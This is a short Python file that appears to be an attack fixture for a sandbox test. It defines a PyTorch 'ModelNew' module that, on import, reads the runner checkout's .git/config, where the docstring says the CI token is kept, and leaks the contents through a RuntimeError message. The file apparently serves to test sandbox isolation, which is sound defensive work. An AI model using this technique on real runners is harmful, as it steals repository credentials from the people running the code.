"""Attack: the runner's working directory is on its sys.path (python -m): read that checkout's .git/config
(where actions/checkout keeps the token) through the sandbox's view of the Python paths."""

from torch import nn

CHECKOUT = ""  # the test fills this in

try:
    with open(CHECKOUT + "/.git/config") as handle:
        TEXT = handle.read().replace("\n", " ")
except OSError as exc:
    TEXT = f"unreadable: {exc}"


class ModelNew(nn.Module):
    def forward(self, a, b):
        raise RuntimeError(TEXT)
